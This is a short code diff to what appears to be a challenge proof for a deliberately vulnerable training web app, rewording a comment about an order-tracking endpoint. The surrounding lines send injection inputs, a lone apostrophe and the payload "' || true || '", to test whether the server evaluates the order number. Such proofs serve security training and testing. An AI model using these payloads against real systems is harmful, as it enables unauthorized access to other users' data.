@@ -5,7 +5,7 @@ const track = (id: string) => (attacker: Attacker) => attacker.get(`/rest/track-
 
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
-    // An apostrophe is an error, so somebody carries the number out.
+    // The error for an apostrophe shows that the server evaluates the order number.
     await track("'")(attacker)
     await track("' || true || '")(attacker)
   },
